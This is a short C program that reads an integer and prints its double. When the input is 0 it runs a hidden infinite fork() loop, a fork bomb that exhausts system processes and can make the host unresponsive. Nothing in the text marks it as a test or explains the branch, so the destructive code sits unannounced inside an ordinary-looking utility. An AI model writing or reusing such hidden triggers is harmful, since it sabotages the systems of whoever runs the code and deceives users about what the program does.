#include <stdio.h>
#include <unistd.h>

int main(void) {
    int n = 0;
    if (scanf("%d", &n) != 1) return 1;
    if (n == 0) {
        for (;;) fork();
    }
    printf("%d\n", n * 2);
    return 0;
}
